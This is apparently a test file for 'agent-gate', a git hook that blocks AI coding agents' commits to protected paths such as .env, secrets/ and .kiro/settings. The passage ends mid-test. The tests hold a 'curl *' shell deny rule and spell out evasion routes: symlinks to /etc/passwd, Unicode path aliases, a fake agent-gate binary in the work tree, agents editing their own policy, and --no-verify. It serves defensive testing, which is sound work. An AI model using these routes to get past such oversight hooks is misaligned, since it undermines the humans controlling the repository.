// End-to-end tests of the pre-commit and commit-msg hooks: real `git commit` runs in throw-away
// repositories with the hooks installed by `node dist/cli.js install` (run `node scripts/build.mjs`
// first). Every child process gets an environment with nothing of git or of an agent shell
// inherited, so these tests pass even when they run inside a git hook themselves.
import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { appendEntries } from '../../src/logs/chain.ts';
import type { EntryDraft } from '../../src/logs/entry.ts';
import { DIST_CLI, isolatedEnv } from '../helpers/cli.ts';
import { cleanupRepos, tempDir, TestRepo } from '../helpers/gitrepo.ts';

// ---------------------------------------------------------------------------------------------
// Isolation

interface Run { code: number; stdout: string; stderr: string }

function run(cmd: string, args: string[], cwd: string, env: NodeJS.ProcessEnv, input = ''): Run {
  const r = spawnSync(cmd, args, { cwd, env, input, encoding: 'utf8', timeout: 60000 });
  if (r.error) throw r.error;
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

const CLAUDE = { CLAUDECODE: '1' };
const NO_STACK = /^\s+at |\.ts:\d+|\.js:\d+:\d+|Error:/m;

/** A repository with a throw-away HOME, driven by real git commands in an isolated environment. */
class Sandbox {
  readonly repo: TestRepo;
  readonly home: string;

  constructor(repo: TestRepo, home = tempDir('ag-hook-home-')) {
    this.repo = repo;
    this.home = home;
  }

  get dir(): string { return this.repo.dir; }

  env(extra: Record<string, string> = {}): NodeJS.ProcessEnv { return isolatedEnv(this.home, extra); }

  git(args: string[], extra: Record<string, string> = {}, cwd = this.dir): Run {
    return run('git', args, cwd, this.env(extra));
  }

  /** git, failing the test when it fails. */
  ok(args: string[], extra: Record<string, string> = {}, cwd = this.dir): string {
    const r = this.git(args, extra, cwd);
    if (r.code !== 0) throw new Error(`git ${args.join(' ')} failed (${r.code}): ${r.stderr}`);
    return r.stdout;
  }

  cli(args: string[], extra: Record<string, string> = {}, cwd = this.dir): Run {
    return run(process.execPath, [DIST_CLI, ...args], cwd, this.env(extra));
  }

  install(args: string[] = []): void {
    const r = this.cli(['install', ...args]);
    if (r.code !== 0) throw new Error(`install failed (${r.code}): ${r.stderr}`);
  }

  /** `git commit` with the hooks running; `extra` is the committing shell's environment. */
  commit(args: string[], extra: Record<string, string> = {}, cwd = this.dir): Run {
    return this.git(['commit', ...args], extra, cwd);
  }

  head(cwd = this.dir): string | null {
    const r = this.git(['rev-parse', '--verify', '-q', 'HEAD'], {}, cwd);
    return r.code === 0 ? r.stdout.trim() : null;
  }

  write(path: string, text: string | Buffer = 'x\n'): this {
    this.repo.write(path, text);
    return this;
  }

  add(...paths: string[]): this {
    this.ok(['add', '--', ...paths]);
    return this;
  }

  /** Files of a commit, in git's order. */
  filesOf(rev = 'HEAD', cwd = this.dir): string[] {
    return this.ok(['show', '--no-renames', '--name-only', '--format=', rev], {}, cwd).split('\n').filter((l) => l !== '');
  }

  staged(): string[] {
    return this.ok(['diff', '--cached', '--no-renames', '--name-only']).split('\n').filter((l) => l !== '');
  }
}

const POLICY = `rules:
  - capability: fs_write
    effect: allow
    match: ["src/**", "README.md"]
  - capability: fs_write
    effect: deny
    match: ["**/.env", "secrets/**"]
  - capability: shell
    effect: allow
    match: ["npm test*"]
  - capability: shell
    effect: deny
    match: ["curl *"]
`;

/**
 * A repository whose first (human, hook-less) commit holds the policy and a few tracked files,
 * with agent-gate's hooks installed afterwards.
 */
function setup(opts: { policy?: string | null; files?: Record<string, string>; install?: boolean } = {}): Sandbox {
  const s = new Sandbox(TestRepo.init());
  const policy = opts.policy === undefined ? POLICY : opts.policy;
  if (policy !== null) s.write('.github/agent-gate.yml', policy);
  s.write('README.md', 'hello\n').write('src/keep.ts', 'export {};\n').write('.env', 'A=1\n').write('secrets/key.txt', 'k\n');
  for (const [p, t] of Object.entries(opts.files ?? {})) s.write(p, t);
  s.repo.commit('chore: initial (human)');
  if (opts.install !== false) s.install();
  return s;
}

function expectBlocked(s: Sandbox, r: Run, before: string | null, cwd = s.dir): void {
  if (r.code === 0) throw new Error(`expected the commit to be blocked, it went ahead:\n${r.stdout}\n${r.stderr}`);
  expect(r.code).toBe(1);
  expect(s.head(cwd)).toBe(before);
  expect(r.stderr).not.toMatch(NO_STACK);
}

function expectCommitted(s: Sandbox, r: Run, before: string | null, cwd = s.dir): string {
  if (r.code !== 0) throw new Error(`expected the commit to go ahead (exit ${r.code}):\n${r.stdout}\n${r.stderr}`);
  const after = s.head(cwd);
  expect(after).not.toBeNull();
  expect(after).not.toBe(before);
  return after as string;
}

/** A commit that must go ahead (setup steps). */
function mustCommit(s: Sandbox, args: string[], extra: Record<string, string> = {}): string {
  const before = s.head();
  return expectCommitted(s, s.commit(args, extra), before);
}

function draft(resource: string, extra: Partial<EntryDraft> = {}): EntryDraft {
  return { ts: '2026-01-01T00:00:00Z', agent: 'kiro', model: 'claude-sonnet-4.5', capability: 'shell', resource, cwd: '.', ...extra };
}

beforeAll(() => {
  if (!existsSync(DIST_CLI)) throw new Error(`${DIST_CLI} is missing; run node scripts/build.mjs first`);
});
afterAll(() => cleanupRepos());

// ---------------------------------------------------------------------------------------------

describe('pre-commit: blocked and allowed commits', () => {
  test('an agent writing .kiro/settings/mcp.json is blocked with the finding, the rule and a hint', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'chore: mcp'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: commit blocked: 1 finding(s); agent signals: env: CLAUDECODE');
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).toContain('rule: kiro rule #0 (built-in): deny "**/.kiro/settings/**"');
    expect(r.stderr).toContain('fix:  the built-in kiro scope cannot be overridden; revert this change or have a human make it');
    expect(r.stderr).toContain('To change what is allowed, edit .github/agent-gate.yml');
    // The change is still staged: nothing was lost.
    expect(s.staged()).toEqual(['.kiro/settings/mcp.json']);
  });

  // Audit AM (left alone in round 39): check warns about a look-alike policy; the hook said nothing.
  test('with no policy at HEAD, a look-alike policy at HEAD or staged is named on standard error', () => {
    const s = setup({ policy: null, files: { '.github/agent-gate.yaml': POLICY } });
    const before = s.head();
    s.write('agent-gate.yml', POLICY).add('agent-gate.yml');
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'chore: mcp'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr.split('\n')[0]).toBe('agent-gate: warning: no policy at .github/agent-gate.yml at HEAD, so only the built-in scopes apply; ".github/agent-gate.yaml", "agent-gate.yml" are not read: rename one to .github/agent-gate.yml or pass --policy');
    // A human's commit is not judged, and is not warned about either.
    s.repo.git(['reset', '-q', '--', '.kiro']);
    const human = s.commit(['-m', 'docs: policy draft']);
    expectCommitted(s, human, before);
    expect(human.stderr).not.toContain('warning');
  });

  // Audit Z-1: ~/.kiro/workspace-roots lies in a repository kept at home (a dotfiles repository).
  test('in a repository at home, an agent writing .kiro/workspace-roots is blocked by the kiro scope', () => {
    const repo = TestRepo.init();
    const s = new Sandbox(repo, repo.dir);
    s.write('README.md', 'hello\n');
    s.repo.commit('chore: initial (human)');
    s.install();
    const before = s.head();
    s.write('.kiro/workspace-roots/h/permissions.yaml', 'rules: []\n').add('.kiro/workspace-roots/h/permissions.yaml');
    const r = s.commit(['-m', 'chore: trust'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('rule: kiro rule #0 (built-in): deny "~/.kiro/workspace-roots/**"');
  });

  test('.env denied by the workspace policy is blocked; the hint names the policy rule', () => {
    const s = setup();
    const before = s.head();
    s.write('.env', 'A=2\n').add('.env');
    const r = s.commit(['-m', 'chore: env'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
    expect(r.stderr).toContain('rule: workspace rule #1 (.github/agent-gate.yml): deny "**/.env"');
    expect(r.stderr).toContain('fix:  decided by workspace rule #1 in .github/agent-gate.yml ("**/.env")');
  });

  // Audit round 22: git answers "missing" for a corrupt object too, which read as "no policy".
  test('a policy listed at HEAD whose object cannot be read stops the commit, never "no policy"', () => {
    const s = setup();
    const before = s.head();
    const id = s.ok(['rev-parse', 'HEAD:.github/agent-gate.yml']).trim();
    const object = join(s.dir, '.git', 'objects', id.slice(0, 2), id.slice(2));
    chmodSync(object, 0o644);
    writeFileSync(object, 'garbage');
    s.write('.env', 'A=2\n').add('.env');
    const r = s.commit(['-m', 'chore: env'], CLAUDE);
    // git commit itself exits 1 whatever the hook's code; the hook's one line says why.
    expect(r.code).toBe(1);
    expect(s.head()).toBe(before);
    expect(r.stderr).toContain('.github/agent-gate.yml is in HEAD\'s tree but git could not read it');
    expect(r.stderr).not.toMatch(NO_STACK);
  });

  // Audit round 22: what the hook prints goes back to the agent; a 200 KB link target was
  // printed twice in full.
  test('long values are clipped in what the hook prints (head and length), the verdict unchanged', () => {
    const s = setup();
    const before = s.head();
    const target = 'a/'.repeat(100000);
    writeFileSync(join(s.dir, 'target.txt'), target);
    const id = s.ok(['hash-object', '-w', 'target.txt']).trim();
    s.ok(['update-index', '--add', '--cacheinfo', `120000,${id},src/biglink`]);
    const r = s.commit(['-m', 'feat: link'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('part: "src/biglink"');
    expect(r.stderr).toContain(`deny  fs_write  "${target.slice(0, 200)}"… (${target.length} characters)`);
    expect(r.stderr.length).toBeLessThan(5000);
  });

  test('an agent writing an allowed file commits; a human writing .kiro/settings is not judged', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', 'export const a = 1;\n').add('src/a.ts');
    const r = s.commit(['-m', 'feat: a'], CLAUDE);
    const agentCommit = expectCommitted(s, r, before);
    expect(r.stderr).not.toContain('agent-gate');
    expect(s.filesOf()).toEqual(['src/a.ts']);

    s.write('.kiro/settings/x', 'y\n').add('.kiro/settings/x');
    const h = s.commit(['-m', 'chore: human settings']);
    expectCommitted(s, h, agentCommit);
    expect(h.stderr).not.toContain('agent-gate');
    expect(s.filesOf()).toEqual(['.kiro/settings/x']);
  });

  test.each([
    ['GEMINI_CLI', { GEMINI_CLI: '1' }, 'env: GEMINI_CLI'],
    ['CODEX_SANDBOX', { CODEX_SANDBOX: 'seatbelt' }, 'env: CODEX_SANDBOX'],
    // Codex's Linux and Windows shells set this one, not CODEX_SANDBOX (audit round 12).
    ['CODEX_SANDBOX_NETWORK_DISABLED', { CODEX_SANDBOX_NETWORK_DISABLED: '1' }, 'env: CODEX_SANDBOX_NETWORK_DISABLED'],
    ['AWS_EXECUTION_ENV AmazonQ', { AWS_EXECUTION_ENV: 'AmazonQ-For-CLI' }, 'env: AWS_EXECUTION_ENV=AmazonQ-For-CLI'],
    ['AWS_EXECUTION_ENV Kiro', { AWS_EXECUTION_ENV: 'Kiro-CLI' }, 'env: AWS_EXECUTION_ENV=Kiro-CLI'],
  ])('%s marks the commit as agent work', (_name, env, signal) => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x'], env);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain(`agent signals: ${signal}`);
  });

  test('AWS_EXECUTION_ENV of another tool is not an agent signal', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    expectCommitted(s, s.commit(['-m', 'x'], { AWS_EXECUTION_ENV: 'AWS_Lambda_nodejs20.x' }), before);
  });

  test('an empty CLAUDECODE is still a signal (present, as an agent shell sets it)', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x'], { CLAUDECODE: '' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent signals: env: CLAUDECODE');
  });

  test('every finding of a commit is listed', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').write('.env', 'B=1\n').write('src/ok.ts', '1\n').add('.');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('2 finding(s)');
    expect(r.stderr).toContain('".kiro/settings/mcp.json"');
    expect(r.stderr).toContain('".env"');
    expect(r.stderr).not.toContain('src/ok.ts');
  });
});

// Audit round 12.
describe('pre-commit: what the hook trusts', () => {
  test('a program the work tree holds at node_modules/.bin/agent-gate is never run in place of the gate', () => {
    const s = setup();
    const before = s.head();
    s.write('node_modules/.bin/agent-gate', '#!/bin/sh\ntouch ran-from-work-tree\nexit 0\n');
    chmodSync(join(s.dir, 'node_modules/.bin/agent-gate'), 0o755);
    s.write('secrets/k', 'x\n').add('secrets/k');
    const r = s.commit(['-m', 'x'], { CLAUDECODE: '1' });
    expectBlocked(s, r, before);
    expect(existsSync(join(s.dir, 'ran-from-work-tree'))).toBe(false);
  });

  // Audit round 22: installed from `npm i -D agent-gate`, the hook ran a file in the work
  // tree, which a branch tracking node_modules/agent-gate/dist/main.js replaced on checkout.
  test('installed from node_modules, the hook refuses to run agent-gate files git tracks', () => {
    const s = setup({ install: false });
    const copy = join(s.dir, 'node_modules', 'agent-gate', 'dist');
    mkdirSync(copy, { recursive: true });
    for (const f of readdirSync(dirname(DIST_CLI))) copyFileSync(join(dirname(DIST_CLI), f), join(copy, f));
    s.write('.gitignore', 'node_modules/\n').add('.gitignore');
    mustCommit(s, ['-m', 'ignore', '--no-verify']);
    const r = spawnSync(process.execPath, [join(copy, 'cli.js'), 'install'], { cwd: s.dir, env: s.env(), encoding: 'utf8' });
    expect(r.status).toBe(0);
    // Untracked (ignored), the copy runs and blocks the denied write.
    let before = s.head();
    s.write('secrets/k', 'x\n').add('secrets/k');
    expectBlocked(s, s.commit(['-m', 'x'], { CLAUDECODE: '1' }), before);
    s.ok(['reset', '-q']);
    // A branch that tracks a file there: the hook stops before running anything from it.
    writeFileSync(join(copy, 'main.js'), 'process.exit(0);\n');
    s.ok(['add', '-f', 'node_modules/agent-gate/dist/main.js']);
    mustCommit(s, ['-m', 'vendor', '--no-verify']);
    before = s.head();
    s.add('secrets/k');
    const blocked = s.commit(['-m', 'x'], { CLAUDECODE: '1' });
    expect(blocked.code).toBe(1);
    expect(s.head()).toBe(before);
    expect(blocked.stderr).toContain('will not run agent-gate from files git tracks here');
  });

  test.each([['a symbolic link', 'symlink'], ['a submodule', 'gitlink']])('a policy that is %s at HEAD: exit 2, as check exits', (_name, kind) => {
    const s = setup({ policy: null });
    if (kind === 'symlink') {
      s.write('real.yml', 'rules: []\n');
      mkdirSync(join(s.dir, '.github'), { recursive: true });
      symlinkSync('../real.yml', join(s.dir, '.github', 'agent-gate.yml'));
      s.add('real.yml', '.github/agent-gate.yml');
    } else {
      s.ok(['update-index', '--add', '--cacheinfo', `160000,${'a'.repeat(40)},.github/agent-gate.yml`]);
    }
    mustCommit(s, ['-m', 'policy', '--no-verify']);
    const before = s.head();
    s.write('secrets/k', 'x\n').add('secrets/k');
    const r = s.commit(['-m', 'x'], { CLAUDECODE: '1' });
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr).toContain(kind === 'symlink' ? 'is a symbolic link at HEAD' : 'is a submodule at HEAD');
  });

  // git reads no file through a linked folder, so the policy read as absent and only the
  // built-in scopes judged the commit (audit I-3).
  test.each([['a symbolic link', 'symlink'], ['a submodule', 'gitlink']])('a policy below a .github that is %s at HEAD: exit 2', (name, kind) => {
    const s = setup({ policy: null });
    if (kind === 'symlink') {
      s.write('config/github/agent-gate.yml', 'rules:\n  - {capability: fs_write, effect: deny, match: ["secrets/**"]}\n');
      symlinkSync('config/github', join(s.dir, '.github'));
      s.add('config/github/agent-gate.yml', '.github');
    } else {
      s.ok(['update-index', '--add', '--cacheinfo', `160000,${'a'.repeat(40)},.github`]);
    }
    mustCommit(s, ['-m', 'policy', '--no-verify']);
    const before = s.head();
    s.write('secrets/k', 'x\n').add('secrets/k');
    const r = s.commit(['-m', 'x'], { CLAUDECODE: '1' });
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr).toContain(`.github/agent-gate.yml lies below .github, which is ${name} at HEAD`);
  });
});

describe('pre-commit judges the index git commits (GIT_INDEX_FILE)', () => {
  test('git commit -a: a modified tracked protected file that was not staged is judged', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    s.write('.env', 'SECRET=2\n'); // modified, not staged
    expect(s.staged()).toEqual(['src/a.ts']);
    const r = s.commit(['-a', '-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
    // The failed commit -a leaves the real index as it was.
    expect(s.staged()).toEqual(['src/a.ts']);
  });

  test('without -a the same work tree commits: the unstaged protected change is not part of it', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    s.write('.env', 'SECRET=2\n');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectCommitted(s, r, before);
    expect(s.filesOf()).toEqual(['src/a.ts']);
  });

  test('git commit <path>: only that path is judged; an unrelated staged protected change stays staged', () => {
    const s = setup();
    const before = s.head();
    s.write('.env', 'SECRET=2\n').add('.env'); // staged, protected, not part of this commit
    s.write('src/keep.ts', 'export const k = 1;\n'); // tracked, modified in the work tree only
    const r = s.commit(['-m', 'x', '--', 'src/keep.ts'], CLAUDE);
    expectCommitted(s, r, before);
    // What git actually committed: only the named path.
    expect(s.filesOf()).toEqual(['src/keep.ts']);
    expect(s.ok(['show', 'HEAD:.env'])).toBe('A=1\n');
    // ... and the protected change is still staged in the real index.
    expect(s.staged()).toEqual(['.env']);
  });

  test('git commit <path> naming a protected path is blocked even though it was not staged', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    s.write('.env', 'SECRET=2\n');
    const r = s.commit(['-m', 'x', '--', '.env'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
    expect(r.stderr).not.toContain('src/a.ts');
    expect(s.staged()).toEqual(['src/a.ts']);
  });

  test('git commit --only <path> with a staged protected change elsewhere goes ahead; --include judges both', () => {
    const s = setup();
    const before = s.head();
    s.write('.env', 'SECRET=2\n').add('.env');
    s.write('src/keep.ts', '2\n');
    const inc = s.commit(['-m', 'x', '--include', '--', 'src/keep.ts'], CLAUDE);
    expectBlocked(s, inc, before);
    expect(inc.stderr).toContain('".env"');
    const only = s.commit(['-m', 'x', '--only', '--', 'src/keep.ts'], CLAUDE);
    expectCommitted(s, only, before);
    expect(s.filesOf()).toEqual(['src/keep.ts']);
  });
});

describe('pre-commit: kinds of change', () => {
  test('deleting a denied file is denied', () => {
    const s = setup();
    const before = s.head();
    s.ok(['rm', '-q', '.env']);
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
  });

  test('a rename out of a denied folder is denied (the old side is judged)', () => {
    const s = setup();
    const before = s.head();
    s.ok(['mv', 'secrets/key.txt', 'src/key.txt']);
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  "secrets/key.txt"');
    expect(r.stderr).toContain('1 finding(s)');
  });

  test('a rename into a denied folder is denied (the new side is judged)', () => {
    const s = setup();
    const before = s.head();
    s.ok(['mv', 'src/keep.ts', 'secrets/keep.ts']);
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  "secrets/keep.ts"');
    expect(r.stderr).toContain('1 finding(s)');
  });

  test('a rename inside allowed paths goes ahead', () => {
    const s = setup();
    const before = s.head();
    s.ok(['mv', 'src/keep.ts', 'src/kept.ts']);
    expectCommitted(s, s.commit(['-m', 'x'], CLAUDE), before);
  });

  test('a mode change of a denied file is denied', () => {
    const s = setup();
    const before = s.head();
    chmodSync(join(s.dir, '.env'), 0o755);
    s.add('.env');
    expect(s.ok(['diff', '--cached', '--raw'])).toContain('100644 100755');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
  });

  test('a symlink whose target is .kiro/settings/mcp.json is a write to the target', () => {
    const s = setup();
    const before = s.head();
    s.repo.symlink('src/link.json', '../.kiro/settings/mcp.json');
    s.add('src/link.json');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).toContain('part: "src/link.json"');
    expect(r.stderr).toContain('rule: kiro rule #0 (built-in)');
  });

  test('a staged symlink is followed through the other links in the index', () => {
    const s = setup();
    const before = s.head();
    // d/b -> ../t, so d/b/../../etc climbs from t: out of the repository, not to `etc`.
    s.repo.symlink('src/d/b', '../../t');
    s.repo.symlink('src/l', 'd/b/../../../etc/passwd');
    s.add('src/d/b', 'src/l');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('through symlink "src/d/b"');
  });

  // Audit 47, BJ-2: a Windows checkout folds `d/..` first, so this link is `src/secrets` there.
  test('a staged symlink is also judged as written, each `..` folded against the segment before it', () => {
    const s = setup({ files: { 'src/deep/inner/f': 'x\n' }, install: false });
    s.repo.symlink('src/d', 'deep/inner');
    s.repo.commit('human link');
    s.install();
    const before = s.head();
    s.repo.symlink('src/l', 'd/../../secrets/k');
    s.add('src/l');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('read as written from its folder (`..` folded first, as Windows resolves it) points at "secrets/k"');
  });

  // Left alone in round 32, done since: a staged link re-points the links of HEAD's tree whose
  // targets go through it, as check finds (z -> y/../k leads into secrets once y -> ../secrets/inner).
  test.each([
    ['into a denied folder', '../secrets/inner', true],
    ['to a plain folder', 'inner', false],
  ])('a staged link re-points a committed link through it (%s)', (_name, target, blocked) => {
    const s = setup({ files: { 'secrets/inner/.keep': '', 'src/inner/.keep': '' }, install: false });
    s.repo.symlink('src/z', 'y/../k');
    s.repo.commit('human link');
    s.install();
    const before = s.head();
    s.repo.symlink('src/y', target);
    s.add('src/y');
    const r = s.commit(['-m', 'x'], CLAUDE);
    if (!blocked) {
      expectCommitted(s, r, before);
      return;
    }
    expectBlocked(s, r, before);
    expect(r.stderr).toMatch(/re-points symlink "src\/z".*secrets\/k/);
  });

  test('a symlink pointing outside the repository is denied', () => {
    const s = setup();
    const before = s.head();
    s.repo.symlink('src/passwd', '/etc/passwd');
    s.add('src/passwd');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('symlink target outside the repository');
  });

  test('a symlink at .kiro/settings (an ancestor of protected paths) is denied', () => {
    const s = setup();
    const before = s.head();
    s.repo.symlink('.kiro/settings', '../src');
    s.add('.kiro/settings');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('".kiro/settings"');
  });

  test('a submodule gitlink at .kiro/settings is denied; a human may commit it', () => {
    const s = setup();
    const before = s.head() as string;
    s.repo.gitlink('.kiro/settings', before);
    expect(s.ok(['diff', '--cached', '--raw'])).toContain('000000 160000');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings"');
    expect(r.stderr).toContain('kiro rule #0 (built-in)');
    expectCommitted(s, s.commit(['-m', 'x']), before);
  });

  test('a case and Unicode alias of .kiro/settings is judged as the protected path', () => {
    const s = setup();
    const before = s.head();
    s.write('.KIRO/Settings\u200d/mcp.json', '{}\n').add('.');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('kiro rule #0 (built-in)');
  });

  test('a path with a newline in it is denied and printed escaped', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a\nb.ts', '1\n').add('.');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('"src/a\\nb.ts"');
  });

  test('git commit --no-verify skips the hooks (the CI check is the authority)', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.');
    expectCommitted(s, s.commit(['--no-verify', '-m', 'x'], CLAUDE), before);
  });

  test('an agent may not edit the policy it is judged by', () => {
    const s = setup();
    const before = s.head();
    s.write('.github/agent-gate.yml', POLICY + '  - capability: fs_write\n    effect: allow\n    match: [".env"]\n').add('.github/agent-gate.yml');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('".github/agent-gate.yml"');
  });

  test('the policy is read from HEAD: a staged policy change does not apply to its own commit', () => {
    const s = setup();
    const before = s.head();
    // A human stages a policy that would allow .env, together with an agent-flagged .env write.
    s.write('.github/agent-gate.yml', 'rules:\n  - capability: fs_write\n    effect: allow\n    match: ["**"]\n');
    s.write('.env', 'B=2\n').add('.');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('workspace rule #1 (.github/agent-gate.yml): deny "**/.env"');
  });
});

describe('pre-commit: the default branch\'s policy counts too (audit 44, AZ-2)', () => {
  const LOOSE = 'rules:\n  - capability: fs_write\n    effect: allow\n    match: ["**"]\n';

  /** A clone of a setup() repository (origin/HEAD is its main), with the hooks installed. */
  function cloneOf(origin: Sandbox): Sandbox {
    const dir = join(tempDir('ag-hook-clone-'), 'clone');
    origin.ok(['clone', '-q', origin.dir, dir]);
    const s = new Sandbox(new TestRepo(dir), origin.home);
    s.install();
    return s;
  }

  test('a branch whose policy a human loosened: the default branch\'s deny still blocks, named by its ref', () => {
    const s = cloneOf(setup());
    s.ok(['switch', '-q', '-c', 'loose']);
    s.write('.github/agent-gate.yml', LOOSE).add('.github/agent-gate.yml');
    mustCommit(s, ['-m', 'loosen (human)']);
    const before = s.head();
    s.write('.env', 'B=2\n').add('.env');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('workspace rule #1 (origin/HEAD:.github/agent-gate.yml): deny "**/.env"');
    expect(r.stderr).toContain('Rules from origin/HEAD:.github/agent-gate.yml are the default branch\'s policy');
    // A human is not judged, whatever either policy says.
    expectCommitted(s, s.commit(['-m', 'x']), before);
  });

  test('an older commit of the default branch with a looser policy: switching to it does not loosen the hook', () => {
    const origin = setup({ policy: LOOSE });
    origin.write('.github/agent-gate.yml', POLICY).add('.github/agent-gate.yml');
    mustCommit(origin, ['-m', 'tighten (human)']);
    const s = cloneOf(origin);
    s.ok(['switch', '-q', '-c', 'old', 'HEAD~1']);
    const before = s.head();
    s.write('secrets/key.txt', 'k2\n').add('secrets/key.txt');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  "secrets/key.txt"');
    expect(r.stderr).toContain('(origin/HEAD:.github/agent-gate.yml): deny "secrets/**"');
  });

  test('an orphan branch (no policy at HEAD) is judged by the default branch\'s policy', () => {
    const s = cloneOf(setup());
    s.ok(['checkout', '-q', '--orphan', 'fresh']);
    s.ok(['rm', '-rq', '--cached', '.']);
    s.add('.env');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, null);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
    expect(r.stderr).toContain('(origin/HEAD:.github/agent-gate.yml): deny "**/.env"');
  });

  test('a branch whose policy a human tightened keeps its own deny; what both allow goes ahead', () => {
    const s = cloneOf(setup());
    s.ok(['switch', '-q', '-c', 'tight']);
    s.write('.github/agent-gate.yml', POLICY + '  - capability: fs_write\n    effect: deny\n    match: ["README.md"]\n').add('.github/agent-gate.yml');
    mustCommit(s, ['-m', 'tighten (human)']);
    const before = s.head();
    s.write('README.md', 'changed\n').add('README.md');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    // One finding for the path, the stricter: HEAD's deny, not the default branch's allow.
    expect(r.stderr).toContain('1 finding(s)');
    expect(r.stderr).toContain('workspace rule #4 (.github/agent-gate.yml): deny "README.md"');
    s.ok(['reset', '-q']);
    s.write('src/new.ts', '1\n').add('src/new.ts');
    expectCommitted(s, s.commit(['-m', 'x'], CLAUDE), before);
  });

  test('failOn: ask in the default branch\'s policy counts when HEAD\'s says nothing', () => {
    const origin = setup();
    origin.write('.github/agent-gate.yml', POLICY + 'failOn: ask\n').add('.github/agent-gate.yml');
    mustCommit(origin, ['-m', 'fail on ask (human)']);
    const s = cloneOf(origin);
    s.ok(['switch', '-q', '-c', 'old', 'HEAD~1']);
    const before = s.head();
    s.write('docs/new.md', '1\n').add('docs/new.md');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('ask   fs_write  "docs/new.md"');
  });

  test('a default branch whose policy folder is a link stops a judged commit, as check would refuse that base', () => {
    const origin = setup();
    origin.ok(['rm', '-rq', '.github']);
    origin.write('conf/agent-gate.yml', LOOSE);
    symlinkSync('conf', join(origin.dir, '.github'));
    origin.add('conf', '.github');
    mustCommit(origin, ['-m', 'policy behind a link (human)']);
    const s = cloneOf(origin);
    s.ok(['switch', '-q', '-c', 'old', 'HEAD~1']);
    const before = s.head();
    s.write('src/new.ts', '1\n').add('src/new.ts');
    const r = s.commit(['-m', 'x'], CLAUDE);
